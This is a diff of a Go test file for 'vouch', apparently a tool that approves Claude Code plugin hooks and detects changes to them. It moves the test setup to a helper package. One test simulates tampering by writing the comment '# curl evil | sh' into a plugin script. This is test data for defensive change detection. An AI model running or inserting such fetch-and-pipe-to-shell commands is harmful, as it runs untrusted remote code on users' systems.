@@ -2,11 +2,11 @@ package main
 
 import (
 	"encoding/json"
-	"os"
-	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"vouch/internal/testtree"
 )
 
 // --claude reviews the copies Claude Code installed (what it runs), read-only.
@@ -14,12 +14,7 @@ func TestClaudeInstalled(t *testing.T) {
 	home := t.TempDir()
 	cfg := t.TempDir()
 	dst := filepath.Join(cfg, "plugins", "cache", "team-market", "commit-guard", "1.2.0")
-	if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
-		t.Fatal(err)
-	}
-	if out, err := exec.Command("cp", "-r", filepath.Join("..", "..", "examples", "claude-code", "commit-guard"), dst).CombinedOutput(); err != nil {
-		t.Fatalf("%v %s", err, out)
-	}
+	testtree.Copy(t, filepath.Join("..", "..", "examples", "claude-code", "commit-guard"), dst)
 	t.Setenv("CLAUDE_CONFIG_DIR", cfg)
 	code, out, errOut := runVouch(t, home, "status", "--claude")
 	if code != 0 || !strings.Contains(out, "claude-code commit-guard") || !strings.Contains(out, "hook:PreToolUse:0:0") {
@@ -45,22 +40,14 @@ func TestClaudeInstalled(t *testing.T) {
 // folder, so an edit there makes check fail, and an edit to the unused cache copy does not.
 func TestClaudeInstalledReadsWhatRuns(t *testing.T) {
 	home, cfg, market := t.TempDir(), t.TempDir(), filepath.Join(t.TempDir(), "market")
-	if out, err := exec.Command("cp", "-r", filepath.Join("..", "..", "examples", "claude-code", "marketplace"), market).CombinedOutput(); err != nil {
-		t.Fatalf("%v %s", err, out)
-	}
+	testtree.Copy(t, filepath.Join("..", "..", "examples", "claude-code", "marketplace"), market)
 	cache := filepath.Join(cfg, "plugins", "cache", "example-tools", "format-on-save", "0.1.0")
-	if _, err := exec.Command("cp", "-r", filepath.Join(market, "plugins", "format-on-save"), cache).CombinedOutput(); err != nil {
-		// cp -r needs the parent.
-		os.MkdirAll(filepath.Dir(cache), 0o755)
-		if out, err := exec.Command("cp", "-r", filepath.Join(market, "plugins", "format-on-save"), cache).CombinedOutput(); err != nil {
-			t.Fatalf("%v %s", err, out)
-		}
-	}
-	writeTree(t, filepath.Join(cfg, "plugins"), map[string]string{
+	testtree.Copy(t, filepath.Join(market, "plugins", "format-on-save"), cache)
+	testtree.WriteFiles(t, filepath.Join(cfg, "plugins"), map[string]string{
 		"installed_plugins.json":  `{"version":2,"plugins":{"format-on-save@example-tools":[{"scope":"user","installPath":` + quoteJSON(cache) + `,"version":"0.1.0"}]}}`,
 		"known_marketplaces.json": `{"example-tools":{"source":{"source":"directory","path":` + quoteJSON(market) + `},"installLocation":` + quoteJSON(market) + `}}`,
 	})
-	writeTree(t, cfg, map[string]string{"settings.json": `{"enabledPlugins":{"format-on-save@example-tools":true}}`})
+	testtree.WriteFiles(t, cfg, map[string]string{"settings.json": `{"enabledPlugins":{"format-on-save@example-tools":true}}`})
 	t.Setenv("CLAUDE_CONFIG_DIR", cfg)
 	code, out, errs := runVouch(t, home, "status", "--claude")
 	expect(t, "status --claude", code, 0, out, errs)
@@ -74,10 +61,10 @@ func TestClaudeInstalledReadsWhatRuns(t *testing.T) {
 	expectRun(t, home, "approve", 0, "approve", "--yes", src, hook)
 	expectRun(t, home, "check approved", 0, "check", src, hook)
 	// The cache copy is not what runs: editing it changes nothing.
-	editByte(t, filepath.Join(cache, "scripts", "format.sh"), "#", "# cache copy edited\n#")
+	testtree.Replace(t, filepath.Join(cache, "scripts", "format.sh"), "#", "# cache copy edited\n#")
 	expectRun(t, home, "check after a cache edit", 0, "check", src, hook)
 	// The marketplace folder is: check fails.
-	editByte(t, filepath.Join(market, "plugins", "format-on-save", "scripts", "format.sh"), "#", "# curl evil | sh\n#")
+	testtree.Replace(t, filepath.Join(market, "plugins", "format-on-save", "scripts", "format.sh"), "#", "# curl evil | sh\n#")
 	wantStatus(t, home, src, hook, "changed", "hook is %s after the folder Claude reads it from changed")
 	expectRun(t, home, "check after the folder changed", 1, "check", src, hook)
 }
